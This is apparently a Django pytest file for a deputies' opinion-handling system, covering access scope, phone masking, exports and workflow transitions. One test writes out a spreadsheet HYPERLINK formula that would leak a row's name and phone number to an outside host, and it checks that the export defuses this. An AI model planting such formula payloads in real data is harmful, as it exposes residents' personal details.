# ruff: noqa: F811 - fixtures imported from opinions_support are redefined as test arguments
import io
import threading

import pytest
from django.db import connection, connections
from django.urls import reverse
from openpyxl import load_workbook

from deputywork.figures import collect_figures, figures_sentence
from suggestions.models import Opinion, OpinionEvent
from suggestions.workflow import TransitionRefused, opinion_transition
from tests.factories import DeputyFactory, HandlingUnitFactory, OpinionFactory, UserFactory
from tests.suggestions.opinions_support import (  # noqa: F401 - fixtures
    _fresh_cache,
    colleague_user,
    deputy_user,
    group_with_members,
    village,
)


@pytest.fixture
def zhang_opinion(deputy_user, township):
    return OpinionFactory(deputy=deputy_user.deputy, region=township, callback_ok=False)


def test_inbox_lists_my_opinions_and_my_groups_not_others(client, deputy_user, colleague_user, group_with_members,
                                                          township, django_assert_max_num_queries):
    mine = OpinionFactory(deputy=deputy_user.deputy, region=township, content="北关村垃圾清运不及时，气味很大。")
    to_group = OpinionFactory(group=group_with_members, region=township, content="小组：村里饮水管道老化漏水。")
    theirs = OpinionFactory(deputy=colleague_user.deputy, region=township, content="李代表：校车超载问题需要解决。")
    client.force_login(deputy_user)
    for _ in range(20):
        OpinionFactory(deputy=deputy_user.deputy, region=township)
    # session, user, deputy, count, page of opinions (joined, unread as EXISTS), unread count
    with django_assert_max_num_queries(7):
        page = client.get(reverse("suggestions:inbox")).content.decode()
    assert mine.content in page and theirs.content not in page and to_group.content not in page
    client.force_login(colleague_user)
    page = client.get(reverse("suggestions:inbox")).content.decode()
    assert to_group.content in page and theirs.content in page and mine.content not in page


def test_a_deputy_never_sees_another_deputys_item(client, deputy_user, colleague_user, zhang_opinion, township_user):
    url = reverse("suggestions:inbox_detail", args=[zhang_opinion.pk])
    client.force_login(deputy_user)
    assert client.get(url).status_code == 200
    client.force_login(colleague_user)
    assert client.get(url).status_code == 404
    assert client.post(url, {"action": "accept"}).status_code == 404
    client.force_login(township_user)  # staff use the staff pages, not the portal
    assert client.get(url).status_code == 404
    zhang_opinion.refresh_from_db()
    assert zhang_opinion.status == "submitted"


def test_phone_masked_for_deputy_unless_callback_agreed(client, deputy_user, zhang_opinion):
    client.force_login(deputy_user)
    url = reverse("suggestions:inbox_detail", args=[zhang_opinion.pk])
    page = client.get(url).content.decode()
    assert "139****5678" in page and "13912345678" not in page
    Opinion.objects.filter(pk=zhang_opinion.pk).update(callback_ok=True)
    assert "13912345678" in client.get(url).content.decode()


def test_inbox_actions_accept_forward_with_working_day_due_date(client, deputy_user, zhang_opinion):
    client.force_login(deputy_user)
    url = reverse("suggestions:inbox_detail", args=[zhang_opinion.pk])
    client.post(url, {"action": "accept", "accept-note": "已了解"})
    unit = HandlingUnitFactory()
    client.post(url, {"action": "forward", "forward-unit": unit.pk, "forward-working_days": 5})
    zhang_opinion.refresh_from_db()
    assert zhang_opinion.status == "forwarded" and zhang_opinion.forwarded_to == unit
    assert zhang_opinion.due_date.weekday() < 5
    response = client.post(url, {"action": "accept"}, follow=True)
    assert "不能进行该操作" in response.content.decode()
    assert list(zhang_opinion.events.values_list("to_status", flat=True)) == ["accepted", "forwarded"]


def test_opening_an_item_marks_its_notice_read(client, deputy_user):
    from suggestions.services_opinions import opinion_submit

    opinion = opinion_submit(content="村里的路灯坏了一个月了没人修。", deputy=deputy_user.deputy).opinion
    client.force_login(deputy_user)
    assert "1条未读" in client.get(reverse("suggestions:inbox")).content.decode()
    client.get(reverse("suggestions:inbox_detail", args=[opinion.pk]))
    assert "未读" not in client.get(reverse("suggestions:inbox")).content.decode()


def test_deputy_enters_an_opinion_on_a_residents_behalf(client, deputy_user):
    client.force_login(deputy_user)
    response = client.post(reverse("suggestions:inbox_new"), {
        "channel": "visit", "content": "走访中群众反映：农村饮水有水垢，希望检测水质。", "consent": "on"})
    opinion = Opinion.objects.get()
    assert response.status_code == 302 and opinion.channel == "visit" and opinion.entered_by == deputy_user
    assert opinion.deputy == deputy_user.deputy


def test_staff_list_scope_overdue_and_query_budget(client, township, other_township, township_user,
                                                   other_township_user, office_user, deputy_user,
                                                   django_assert_max_num_queries):
    here = OpinionFactory(deputy=deputy_user.deputy, region=township, content="城关镇：北关村积水严重。")
    there = OpinionFactory(deputy=deputy_user.deputy, region=other_township, content="库庄镇：医保报销难。")
    opinion_transition(opinion=here, to="accepted", actor=office_user)
    opinion_transition(opinion=here, to="forwarded", actor=office_user, forwarded_to=HandlingUnitFactory(),
                       due_date=__import__("datetime").date(2020, 1, 6))
    for _ in range(20):
        OpinionFactory(deputy=deputy_user.deputy, region=township)
    client.force_login(township_user)
    # session, user, user's region (scope prefix), count, page of opinions with all joins
    with django_assert_max_num_queries(6):
        page = client.get(reverse("suggestions:staff_opinions")).content.decode()
    assert here.content[:10] in page and there.content not in page and 'class="overdue"' in page
    client.force_login(other_township_user)
    assert client.get(reverse("suggestions:staff_opinion_detail", args=[here.pk])).status_code == 404
    client.force_login(office_user)
    page = client.get(reverse("suggestions:staff_opinions"), {"overdue": "on"}).content.decode()
    assert here.tracking_code in page and there.tracking_code not in page
    client.force_login(deputy_user)
    assert client.get(reverse("suggestions:staff_opinions")).status_code == 404


def test_staff_reassign_is_an_event(client, office_user, deputy_user, colleague_user, zhang_opinion):
    client.force_login(office_user)
    url = reverse("suggestions:staff_opinion_detail", args=[zhang_opinion.pk])
    client.post(url, {"action": "reassign", "reassign-deputy": colleague_user.deputy.pk})
    zhang_opinion.refresh_from_db()
    assert zhang_opinion.deputy == colleague_user.deputy and zhang_opinion.status == "submitted"
    event = OpinionEvent.objects.get(opinion=zhang_opinion, kind="reassign")
    assert "改派给李秀英" in event.note and event.actor == office_user
    client.force_login(deputy_user)
    assert client.get(reverse("suggestions:inbox_detail", args=[zhang_opinion.pk])).status_code == 404


def test_export_masks_phones_for_township_staff_not_office(client, township_user, office_user, zhang_opinion,
                                                           django_assert_max_num_queries):
    client.force_login(township_user)
    with django_assert_max_num_queries(5):  # session, user, region, the joined opinions
        response = client.get(reverse("suggestions:staff_opinions_export"))
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
    assert rows[0][11:13] == ("群众姓名", "手机号码") and rows[1][11:13] == ("赵大娘", "139****5678")
    client.force_login(office_user)
    response = client.get(reverse("suggestions:staff_opinions_export"))
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
    assert rows[1][12] == "13912345678"


def test_figures_written_like_a_bulletin(deputy_user, office_user, township, county):
    import datetime as dt

    from django.utils import timezone

    for i in range(3):
        o = OpinionFactory(deputy=deputy_user.deputy, region=township, content=f"第{i}件：村里道路坑洼不平。")
        opinion_transition(opinion=o, to="accepted", actor=office_user)
    opinion_transition(opinion=o, to="answered", actor=office_user, public_reply="已修补。")
    today = timezone.localdate()
    sentence = figures_sentence([f for f in collect_figures(today.replace(month=1, day=1), today + dt.timedelta(1),
                                                            county) if f.key.startswith("opinions.")])
    assert sentence == "收集意见建议3条，其中2件正在办理中，1件已经办理完成，解决实际问题1个。"


@pytest.mark.django_db(transaction=True)
def test_two_moves_at_once_leave_one_move(deputy_user, township):
    if connection.vendor != "postgresql":
        pytest.skip("row locks need PostgreSQL")
    opinion = OpinionFactory(deputy=deputy_user.deputy, region=township)
    barrier = threading.Barrier(2)
    outcomes: list[str] = []

    def move(note: str) -> None:
        # Two clerks accept the same opinion at the same moment: the second finds it accepted.
        try:
            barrier.wait()
            opinion_transition(opinion=opinion, to="accepted", actor=deputy_user, note=note)
            outcomes.append("moved")
        except TransitionRefused:
            outcomes.append("refused")
        finally:
            connections.close_all()

    threads = [threading.Thread(target=move, args=(n,)) for n in ("甲", "乙")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes) == ["moved", "refused"]
    assert OpinionEvent.objects.filter(opinion=opinion).count() == 1


def test_deputy_without_portal_role_gets_404_on_inbox(client, township_user):
    client.force_login(township_user)
    assert client.get(reverse("suggestions:inbox")).status_code == 404
    other = UserFactory(role="deputy")
    DeputyFactory(user=other)
    client.force_login(other)
    assert client.get(reverse("suggestions:inbox")).status_code == 200


def test_phone_and_name_masked_for_deputy_unless_callback_agreed(client, deputy_user, zhang_opinion):
    client.force_login(deputy_user)
    url = reverse("suggestions:inbox_detail", args=[zhang_opinion.pk])
    page = client.get(url).content.decode()
    assert "赵**" in page and "赵大娘" not in page and "139****5678" in page
    assert "赵大娘" not in client.get(reverse("suggestions:inbox")).content.decode()
    Opinion.objects.filter(pk=zhang_opinion.pk).update(callback_ok=True)
    page = client.get(url).content.decode()
    assert "赵大娘" in page and "13912345678" in page


def test_staff_see_the_residents_name_and_phone_whole(client, office_user, zhang_opinion):
    client.force_login(office_user)
    page = client.get(reverse("suggestions:staff_opinion_detail", args=[zhang_opinion.pk])).content.decode()
    assert "赵大娘" in page and "13912345678" in page


def test_unread_opinions_show_on_portal_home_and_menu_with_one_count(client, deputy_user, township,
                                                                      django_assert_max_num_queries):
    from suggestions.services_opinions import opinion_submit

    for text in ("村里的路灯坏了一个月了没人修。", "村口的垃圾池满了好几天没人清运。"):
        opinion_submit(content=text, deputy=deputy_user.deputy)
    client.force_login(deputy_user)
    # session, user, deputy, the deputy for the page (with seats, groups and stations: 4), its
    # residence, and the one unread count the menu and the notice share
    with django_assert_max_num_queries(9):
        home = client.get(reverse("deputies:portal")).content.decode()
    assert home.count("2条未读") == 2  # the menu and the notice on the page
    # The inbox counts once for its heading and the menu both.
    # session, user, deputy, count, page of opinions, unread count
    with django_assert_max_num_queries(7):
        inbox = client.get(reverse("suggestions:inbox")).content.decode()
    assert inbox.count("2条未读") == 2
    opened = Opinion.objects.first()
    client.get(reverse("suggestions:inbox_detail", args=[opened.pk]))
    assert "1条未读" in client.get(reverse("deputies:portal")).content.decode()
    client.get(reverse("suggestions:inbox_detail", args=[Opinion.objects.exclude(pk=opened.pk).get().pk]))
    assert "未读" not in client.get(reverse("deputies:portal")).content.decode()


def test_inbox_offers_ticks_only_on_accepted_opinions(client, deputy_user, township, office_user):
    waiting = OpinionFactory(deputy=deputy_user.deputy, region=township)
    client.force_login(deputy_user)
    page = client.get(reverse("suggestions:inbox")).content.decode()
    assert 'name="opinions"' not in page and 'id="pick"' not in page  # nothing to pick: no form at all
    accepted = opinion_transition(opinion=OpinionFactory(deputy=deputy_user.deputy, region=township),
                                  to="accepted", actor=deputy_user)
    page = client.get(reverse("suggestions:inbox")).content.decode()
    assert f'value="{accepted.pk}" form="pick"' in page and f'value="{waiting.pk}"' not in page
    assert page.count("<form") == page.count("</form>")
    # Nothing on this page: no form left open either.
    page = client.get(reverse("suggestions:inbox"), {"status": "closed"}).content.decode()
    assert 'id="pick"' not in page and page.count("<form") == page.count("</form>")


def test_a_suggestion_from_an_opinion_that_cannot_be_its_source_is_refused_with_a_message(
        client, deputy_user, township):
    from tests.factories import CongressFactory, MandateFactory

    MandateFactory(deputy=deputy_user.deputy, congress=CongressFactory())
    waiting = OpinionFactory(deputy=deputy_user.deputy, region=township)
    accepted = opinion_transition(opinion=OpinionFactory(deputy=deputy_user.deputy, region=township),
                                  to="accepted", actor=deputy_user)
    url = reverse("suggestions:suggestion_create")
    client.force_login(deputy_user)
    response = client.get(url, {"opinions": [accepted.pk, waiting.pk]}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("suggestions:inbox")
    assert "所选意见中有1条尚未受理" in response.content.decode()
    assert client.get(url, {"opinions": [accepted.pk]}).status_code == 200
    # Posted after the choice went stale: nothing saved, what was typed is kept.
    from suggestions.models import Category, Suggestion

    response = client.post(url, {"title": "关于疏通北关村主街下水道的建议", "content": "群众反映下水道堵塞，建议疏通。",
                                 "category": Category.objects.get(name="城乡建设").pk, "period": "recess",
                                 "opinions": [accepted.pk, waiting.pk], "submit": "1"})
    assert response.status_code == 200 and not Suggestion.objects.exists()
    text = response.content.decode()
    assert "所选意见中有1条尚未受理" in text and "关于疏通北关村主街下水道的建议" in text


def test_export_keeps_a_residents_formula_as_text(client, office_user, zhang_opinion):
    # Typed on the public form: a clerk's click must not send the row's name and phone away.
    zhang_opinion.place_detail = '=HYPERLINK("http://x.cn/?"&L2&M2,"查看位置")'
    zhang_opinion.content = "+86 主街积水，老人出行不便。"
    zhang_opinion.save()
    client.force_login(office_user)
    response = client.get(reverse("suggestions:staff_opinions_export"))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    place, content = sheet.cell(2, 9), sheet.cell(2, 11)
    assert place.data_type == "s" and place.value == "'" + zhang_opinion.place_detail
    assert content.data_type == "s" and content.value.startswith("'+86")


def test_whoever_handles_an_opinion_cannot_rate_it_in_the_residents_name(client, deputy_user, zhang_opinion,
                                                                          office_user):
    opinion_transition(opinion=zhang_opinion, to="accepted", actor=office_user)
    opinion_transition(opinion=zhang_opinion, to="answered", actor=office_user, public_reply="已疏通。")
    client.force_login(deputy_user)
    detail = client.get(reverse("suggestions:inbox_detail", args=[zhang_opinion.pk])).content.decode()
    assert zhang_opinion.tracking_code not in detail  # sent by the resident: the code is theirs
    track = reverse("suggestions:opinion_track", args=[zhang_opinion.tracking_code])
    page = client.post(track, {"rating": "satisfied"}).content.decode()
    zhang_opinion.refresh_from_db()
    assert zhang_opinion.rating == "" and "只能由反映人本人提交" in page
    client.logout()
    client.post(track, {"rating": "basic"})
    zhang_opinion.refresh_from_db()
    assert zhang_opinion.rating == "basic"


def test_a_deputy_sees_the_code_of_an_opinion_they_entered(client, deputy_user):
    client.force_login(deputy_user)
    response = client.post(reverse("suggestions:inbox_new"), {
        "content": "张大爷电话反映：北关村主街路灯坏了半个月，晚上出行不便。", "channel": "phone",
        "resident_name": "张大爷", "resident_phone": "", "consent": "on"}, follow=True)
    opinion = Opinion.objects.get(entered_by=deputy_user)
    assert response.status_code == 200 and opinion.tracking_code in response.content.decode()
    detail = client.get(reverse("suggestions:inbox_detail", args=[opinion.pk])).content.decode()
    assert opinion.tracking_code in detail


def test_a_group_opinion_reassigned_to_one_deputy_leaves_the_groups_inbox(client, office_user, deputy_user,
                                                                          colleague_user, group_with_members):
    from suggestions.services_opinions import opinion_reassign

    opinion = OpinionFactory(group=group_with_members, region=group_with_members.region)
    client.force_login(colleague_user)  # a member of the group
    detail = reverse("suggestions:inbox_detail", args=[opinion.pk])
    assert client.get(detail).status_code == 200
    opinion_reassign(opinion=opinion, deputy=deputy_user.deputy, actor=office_user)
    assert client.get(detail).status_code == 404
    with pytest.raises(TransitionRefused):
        opinion_transition(opinion=opinion, to="accepted", actor=colleague_user)
    client.force_login(deputy_user)
    assert client.get(detail).status_code == 200
